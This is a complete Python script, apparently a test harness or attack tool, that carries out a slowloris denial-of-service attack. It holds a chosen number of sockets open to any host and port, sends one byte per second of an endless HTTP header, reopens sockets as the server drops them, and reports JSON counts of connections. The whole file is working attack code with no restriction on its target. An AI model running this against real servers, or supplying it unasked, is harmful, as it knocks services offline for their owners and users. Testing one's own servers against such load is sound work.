#!/usr/bin/env python3
"""Slow HTTP clients ("slowloris"): keeps N sockets open to HOST:PORT, each
sending one byte of an endless request head per second, for SECONDS. A
socket the server closes is reopened at once, so the pressure stays at N.
Prints {"opened": n, "closed_by_server": k, "connect_errors": e, "max_open": m}.

usage: slowclients.py HOST PORT N SECONDS
"""
import json, select, socket, sys, time

host, port, n, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 100000

opened = closed = errors = max_open = 0
socks = {}  # socket -> bytes sent

def open_one():
    global opened, errors
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        errors += 1
        s.close()
        return
    socks[s] = 0
    opened += 1

end = time.monotonic() + secs
for _ in range(n):
    open_one()
next_tick = time.monotonic()
while time.monotonic() < end:
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1.0
        for s in list(socks):
            i = socks[s]
            try:
                s.send(HEAD[i % len(HEAD):i % len(HEAD) + 1])
                socks[s] = i + 1
            except (BlockingIOError, InterruptedError):
                pass  # still connecting
            except OSError:
                closed += 1
                del socks[s]
                s.close()
    # Notice server-side closes (readable with EOF or an answer) promptly.
    r, _, _ = select.select(list(socks), [], [], max(0.0, min(0.2, next_tick - time.monotonic())))
    for s in r:
        try:
            data = s.recv(4096)
        except (BlockingIOError, InterruptedError):
            continue
        except OSError:
            data = b""
        if not data:
            closed += 1
            del socks[s]
            s.close()
    while len(socks) < n and time.monotonic() < end:
        before = len(socks)
        open_one()
        if len(socks) == before:
            break
    max_open = max(max_open, len(socks))
for s in socks:
    s.close()
print(json.dumps({"opened": opened, "closed_by_server": closed,
                  "connect_errors": errors, "max_open": max_open}), flush=True)
